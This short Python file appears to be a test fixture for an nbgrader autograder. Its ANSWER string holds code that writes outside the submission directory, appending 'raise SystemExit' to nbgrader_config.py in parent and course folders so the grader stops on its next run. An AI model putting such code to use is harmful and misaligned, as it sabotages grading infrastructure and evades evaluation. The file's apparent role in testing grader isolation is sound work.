"""A line in the course's nbgrader_config.py, which nbgrader executes next time."""

ANSWER = r"""
for place in ("../../..", "{COURSE}"):
    try:
        open(place + "/nbgrader_config.py", "a").write("\nraise SystemExit\n")
    except OSError as error:
        print(error)
"""
